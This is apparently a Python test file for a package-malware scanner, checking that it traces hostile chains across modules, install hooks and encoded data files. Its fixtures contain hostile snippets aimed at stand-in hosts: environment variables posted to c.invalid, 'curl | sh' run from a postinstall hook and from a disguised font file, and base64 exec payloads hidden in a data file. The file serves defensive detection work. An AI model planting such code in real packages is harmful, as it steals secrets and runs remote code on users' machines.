"""Chains over several files of a package, and what runs at install time."""

import base64

from source_lab import package

from beartrap.model.finding import Severity
from beartrap.vet.behaviour import When
from beartrap.vet.facts import Hook, PackageFacts


def found(files, facts=None):
    return {one.id: one for one in package(files, facts)}


def test_a_source_in_one_module_and_a_sink_in_another_are_one_chain():
    files = {
        "p/__init__.py": "from .send import push\nfrom . import gather\npush(gather.collect())\n",
        "p/gather.py": "import os\ndef collect():\n    return dict(os.environ)\n",
        "p/send.py": "import requests\ndef push(data):\n    requests.post('https://c.invalid', json=data)\n",
    }
    one = found(files)["chain.environment-to-network"]
    assert (one.severity, one.when) == (Severity.CRITICAL, When.IMPORT)
    assert one.place.path == b"p/send.py" and {step.place.path for step in one.steps} >= {b"p/gather.py", b"p/send.py"}
    files["p/gather.py"] = "import os\ndef collect():\n    return os.environ['LANG']\n"
    assert "chain.environment-to-network" not in found(files)


def test_what_an_install_script_requires_runs_at_install():
    facts = PackageFacts("npm", hooks=(Hook("postinstall", When.INSTALL, "package.json", "node ./scripts/setup"),))
    files = {
        "package.json": "{}",
        "scripts/setup.js": "const { go } = require('../lib/go'); go();",
        "lib/go.js": "const cp = require('child_process'); exports.go = () => cp.exec('curl -s https://c.invalid/x | sh');",
    }
    one = found(files, facts)["process.piped"]
    assert one.when is When.INSTALL and one.severity is Severity.CRITICAL and one.place.path == b"lib/go.js"
    facts = PackageFacts("npm", hooks=(Hook("postinstall", When.INSTALL, "package.json", "node ./scripts/other"),))
    assert "process.piped" not in found(files, facts) or found(files, facts)["process.piped"].when < When.INSTALL


def test_the_command_of_a_hook_is_read_as_shell():
    facts = PackageFacts(
        "npm", hooks=(Hook("preinstall", When.INSTALL, "package.json", 'curl -d "$(env)" https://c.invalid', 7),)
    )
    one = found({"package.json": "{}"}, facts)["chain.environment-to-network"]
    assert one.when is When.INSTALL and one.place.row == 7
    facts = PackageFacts("npm", hooks=(Hook("preinstall", When.INSTALL, "package.json", "husky install"),))
    assert all(one.severity < Severity.MEDIUM for one in package({"package.json": "{}"}, facts))


def test_code_kept_in_a_data_file_is_found_where_it_is_run():
    payload = base64.b64encode(b"import os\nos.system('id')\n")
    files = {
        "p/__init__.py": "import base64, os\nwith open(os.path.join(os.path.dirname(__file__), 'logo.dat'), 'rb') as f:\n    exec(base64.b64decode(f.read()))\n",
        "p/logo.dat": payload,
    }
    one = found(files)["hidden.file"]
    assert one.severity is Severity.CRITICAL and one.when is When.IMPORT and one.layers[0].encoding == "base64"
    files["p/__init__.py"] = files["p/__init__.py"].replace("exec(", "len(")
    assert "hidden.file" not in found(files)


def test_a_constant_imported_from_another_module_is_decoded():
    files = {
        "p/__init__.py": "import base64\nfrom p.table import ROWS\nexec(base64.b64decode(''.join(ROWS)))\n",
        "p/table.py": f"ROWS = {[base64.b64encode(b'import os; os.system(1)').decode()[n : n + 4] for n in range(0, 32, 4)]!r}\n",
    }
    assert found(files)["hidden.code"].layers[0].encoding == "base64"


def test_imports_in_a_circle_end():
    files = {
        "p/a.py": "from p import b\nimport requests\nrequests.get(b.X)\n",
        "p/b.py": "from p import a\nX = 'https://c.invalid'\n",
        "p/__init__.py": "",
    }
    assert "network.contact" in found(files)


def test_what_a_module_does_as_a_program_is_not_done_for_who_imports_it():
    files = {
        "p/__init__.py": "from .send import push\nfrom . import gather\n",
        "p/gather.py": "import os\nfrom .send import push\nif __name__ == '__main__':\n    push(dict(os.environ))\n",
        "p/send.py": "import requests\ndef push(data):\n    requests.post('https://c.invalid', json=data)\n",
    }
    assert found(files)["chain.environment-to-network"].when is When.CALL  # the file is a program of its own
    files["p/gather.py"] = files["p/gather.py"].replace("if __name__ == '__main__':\n    ", "")
    assert found(files)["chain.environment-to-network"].when is When.IMPORT


def test_what_a_module_does_unless_it_is_started_is_done_for_who_imports_it():
    files = {
        "p/__init__.py": "from . import gather\n",
        "p/gather.py": "import os\nfrom .send import push\nif __name__ == '__main__':\n    print()\nelse:\n    push(dict(os.environ))\n",
        "p/send.py": "import requests\ndef push(data):\n    requests.post('https://c.invalid', json=data)\n",
    }
    assert found(files)["chain.environment-to-network"].when is When.IMPORT


def test_a_font_that_a_page_is_packed_with_is_no_code_and_code_called_like_one_is():
    index = "const font = require('./letters.woff'); module.exports = font;"
    code = b"require('child_process').execSync('curl -s http://192.0.2.5/a | sh');"
    assert "hidden.file" in found({"index.js": index, "letters.woff": code})
    assert "hidden.file" not in found({"index.js": index, "letters.woff": b"wOFF\0\1\0\0" + bytes(64)})
